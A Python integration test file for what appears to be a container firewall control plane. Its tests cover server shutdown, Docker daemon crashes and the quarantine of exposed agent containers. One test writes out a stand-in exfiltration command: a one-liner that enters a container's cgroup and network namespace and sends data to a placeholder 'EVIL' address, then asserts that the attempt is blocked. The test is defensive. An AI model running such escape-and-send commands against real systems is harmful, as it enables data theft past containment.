"""
The server's end, the daemon's restarts, and what is left behind, with real containers.
"""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from clawker_cp.testing.docker_machine import NETWORK, DockerMachine, docker_machine
from clawker_cp.testing.docker_world import missing
from clawker_cp.testing.served import serving

pytestmark = [
    pytest.mark.root, pytest.mark.slow, pytest.mark.docker, pytest.mark.envoy, pytest.mark.timeout(300),
    pytest.mark.skipif(bool(missing()), reason=missing() or "-"),
]  # fmt: skip

EVIL = "203.0.113.66"


@pytest_asyncio.fixture
async def machine() -> AsyncIterator[DockerMachine]:
    async with docker_machine(live_restore=True) as made:
        yield made


async def test_the_last_agent_gone_ends_the_server_and_leaves_nothing(machine: DockerMachine) -> None:
    """No agent in two polls after the grace: exit 0; no link, map, table or container of ours is left."""
    machine.machine.environment |= {
        "CLAWKER_CP_DRAIN__TO_ZERO": "true",
        "CLAWKER_CP_DRAIN__GRACE_S": "3", "CLAWKER_CP_DRAIN__POLL_S": "1", "CLAWKER_CP_DRAIN__ZERO_POLLS": "2",
    }  # fmt: skip
    async with serving(machine.machine) as served:
        container = await machine.docker.agent("last", network=NETWORK)
        await machine.wait_enrolled(container)
        await machine.docker.client.kill(container)
        async with asyncio.timeout(40):
            code = await served.process.wait()
    host = machine.machine.host
    tables = (await host.run(["nft", "list", "tables"])).out
    pins = (await host.run(["ls", "/sys/fs/bpf"])).out
    envoy = (await host.run(["sh", "-c", "ps -eo args | grep -c '[e]nvoy.*bootstrap.json' || true"])).out

    assert code == 0
    assert "clawker" not in tables and "clawker" not in pins
    assert not (host.mount / host.agents.name).exists()
    assert str(machine.machine.environment["CLAWKER_DATA_DIR"]) not in envoy


async def test_a_daemon_that_dies_opens_nothing_and_is_followed_again(machine: DockerMachine) -> None:
    """kill -9 of dockerd with containers running on: agents stay enforced; starts and ends during the gap are found."""
    async with serving(machine.machine):
        kept = await machine.docker.agent("kept", network=NETWORK, usr=True)
        ends = await machine.docker.agent("ends", network=NETWORK)
        await machine.wait_enrolled(kept)
        await machine.wait_enrolled(ends)
        pid = (await machine.docker.client.inspect(ends))["State"]["Pid"]
        kept_pid = (await machine.docker.client.inspect(kept))["State"]["Pid"]
        cgroup = machine.docker.cgroup / kept
        await machine.machine.world.reset()
        await machine.docker.kill_daemon()
        os.kill(pid, 9)
        code = f"import socket; s=socket.create_connection(({EVIL!r}, 443), 2); s.send(b'escaped-daemon')"
        tried = await machine.machine.host.run(
            [
                "sh",
                "-c",
                f'echo $$ > {cgroup}/cgroup.procs; exec nsenter -t {kept_pid} -n -- /usr/bin/python3 -c "$0"',
                code,
            ]
        )
        packets = await machine.machine.world.packets(dst=EVIL)
        await machine.docker.start_daemon()
        late = await machine.docker.agent("late", network=NETWORK)
        await machine.wait_enrolled(late)
        async with asyncio.timeout(30):
            while any(one["container_id"] == ends for one in await machine.agents()):
                await asyncio.sleep(0.1)
        await machine.wait_enrolled(kept)

    assert tried.code == 1 and "refused" in tried.err.lower() and packets == []


async def test_a_daemon_that_is_not_there_ends_the_start(machine: DockerMachine) -> None:
    """engine: docker without a daemon is one line that names the socket and what to do; nothing was touched."""
    await machine.docker.stop_daemon()
    argv = [sys.executable, "-m", "clawker_cp", "serve"]
    done = await machine.machine.host.run(argv, env=machine.machine.environment, timeout_s=60)
    pins = (await machine.machine.host.run(["ls", "/sys/fs/bpf"])).out

    assert done.code == 1
    assert "docker.sock" in done.err and "dockerd" in done.err
    assert "clawker" not in pins


async def test_an_exposed_container_has_no_network_until_it_is_released(machine: DockerMachine) -> None:
    """With on_exposure: quarantine a way out takes the network away, also a late one; a release accepts it (R16)."""
    machine.machine.environment["CLAWKER_CP_FIREWALL__ON_EXPOSURE"] = "quarantine"
    curl = ("/usr/bin/curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "http://api.example.com/x")

    async def start(agent: str, *capabilities: str) -> str:
        host = {"NetworkMode": NETWORK, "CapAdd": list(capabilities)}
        container = await machine.docker.agent(agent, network=NETWORK, usr=True, host_config=host)
        await machine.wait_enrolled(container)
        return container

    async def session(container: str) -> dict[str, Any]:
        (one,) = [one for one in await machine.agents() if one["container_id"] == container]
        return one

    async with serving(machine.machine):
        allowed = await machine.ctl("allow", "http://api.example.com")
        assert allowed.code == 0, allowed.err
        plain, exposed = await start("plain"), await start("exposed", "SYS_ADMIN")
        listed = await session(exposed)
        before = [(await machine.inside(one, *curl)).out for one in (plain, exposed)]
        released = await machine.ctl("release", "p/exposed")
        after = (await machine.inside(exposed, *curl)).out
        await machine.docker.client.stop(exposed, grace_s=0)
        await machine.docker.client.start(exposed)
        await machine.wait_enrolled(exposed)
        again = (await machine.inside(exposed, *curl)).out
        await machine.docker.client.create_network("aside", ipam=[{"Subnet": "203.0.113.192/28"}], labels={})
        await machine.docker.client.connect("aside", plain)
        async with asyncio.timeout(15):
            while not (await session(plain)).get("quarantined"):
                await asyncio.sleep(0.05)
        late = (await machine.inside(plain, *curl)).out

    assert late in {"", "000"}
    assert listed["quarantined"] and "capability:SYS_ADMIN" in listed["quarantine_reason"]
    assert before[0] == "200" and before[1] in {"", "000"}
    assert released.code == 0, released.err
    assert after == "200" and again == "200"
